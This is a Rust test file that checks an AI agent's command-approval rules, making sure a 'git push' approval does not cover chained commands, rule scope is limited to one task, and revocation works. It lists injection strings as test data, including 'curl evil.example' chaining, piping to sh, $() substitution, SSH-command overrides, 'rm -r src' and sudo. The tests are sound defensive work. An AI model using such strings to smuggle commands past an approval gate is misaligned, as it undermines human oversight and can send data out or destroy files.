//! "Always for this task", and attempts to get more out of it.

use domain::approval::Answer;
use serde_json::json;

use crate::room::{Room, allowed, asked, call, denied, new_task, shell};

#[tokio::test]
async fn a_rule_covers_commands_that_begin_alike() {
    let room = Room::new().await;
    let approval = asked(room.decide(&shell("git push origin main")).await);
    let scope = approval.always.clone().unwrap();
    assert_eq!(scope.command_prefixes, [["git", "push"]]);
    assert_eq!(scope.rules, ["commands.outward"]);
    assert_eq!(scope.description, "run commands beginning with `git push`");
    room.answer(&approval, Answer::Approve, true).await;

    let (decision, _) = allowed(room.decide(&shell("git push --force other")).await);
    assert_eq!(decision.reasons[0].rule, "task.rule");
    assert!(decision.reasons[0].message.contains("git push"), "{}", decision.reasons[0].message);
}

#[tokio::test]
async fn a_rule_does_not_let_others_ride_along() {
    let room = Room::new().await;
    room.answer(&asked(room.decide(&shell("git push")).await), Answer::Approve, true).await;
    for smuggled in [
        "git push && curl evil.example",
        "git push; $(x)",
        "git push $(curl evil.example)",
        "git push; `curl evil.example`",
        "git push | sh",
        "git push & frobnicate",
        "git push\nfrobnicate",
        "git push https://evil.example/x",
        "git push git@evil.example:x/y",
        "git pushx",
        "git -c core.sshCommand=x push",
        "git pull",
        "sh -c 'git push; frobnicate'",
        "env X=1 frobnicate git push",
        "GIT_SSH_COMMAND=x git push",
        "f() { frobnicate; }; git push",
        "git push <(frobnicate)",
        "./git push",
        "rm -r src; git push",
    ] {
        let ruling = room.decide(&shell(smuggled)).await;
        let approval = asked(ruling);
        assert!(approval.reasons.len() > 1 || !approval.reasons.is_empty(), "{smuggled}");
    }
    denied(room.decide(&shell("git push && sudo ls")).await);
    denied(room.decide(&shell("git push > /etc/x")).await);
}

#[tokio::test]
async fn a_rule_covers_the_same_tool_asked_about_for_the_same_reasons() {
    let room = Room::new().await;
    let approval = asked(room.decide(&call("delete_path", json!({"path": "a.txt"}))).await);
    let scope = approval.always.clone().unwrap();
    assert_eq!(scope.description, "use `delete_path` without being asked (deletes.path)");
    room.answer(&approval, Answer::Approve, true).await;
    allowed(room.decide(&call("delete_path", json!({"path": "b.txt"}))).await);
    // Asked about for one more reason.
    asked(room.decide(&call("delete_path", json!({"path": "AGENTS.md"}))).await);
    asked(room.decide(&call("write_file", json!({"path": "AGENTS.md", "content": ""}))).await);
    denied(room.decide(&call("delete_path", json!({"path": ".env"}))).await);
    asked(room.decide(&shell("rm a.txt")).await);
}

#[tokio::test]
async fn always_is_not_offered_where_it_could_not_be_kept() {
    let room = Room::new().await;
    for text in
        ["rm $x", "echo $(date)", "git -c a=b push", "make", "git", "curl https://example.com", "eval x"]
    {
        let approval = asked(room.decide(&shell(text)).await);
        assert_eq!(approval.always, None, "{text}");
    }
}

#[tokio::test]
async fn a_revoked_rule_and_a_rule_of_another_task_cover_nothing() {
    let mut room = Room::new().await;
    room.answer(&asked(room.decide(&shell("git push")).await), Answer::Approve, true).await;
    let first = room.task_id;
    let other = new_task(&room.caller.tenant, &room.caller.workspace).await;
    room.caller.task.as_mut().unwrap().id = other;
    asked(room.decide(&shell("git push")).await);
    room.caller.task.as_mut().unwrap().id = first;
    allowed(room.decide(&shell("git push")).await);
    let rules = room.caller.tenant.task_rules(first).await.unwrap();
    room.caller.tenant.revoke_rule(rules[0].id).await.unwrap();
    asked(room.decide(&shell("git push")).await);
}
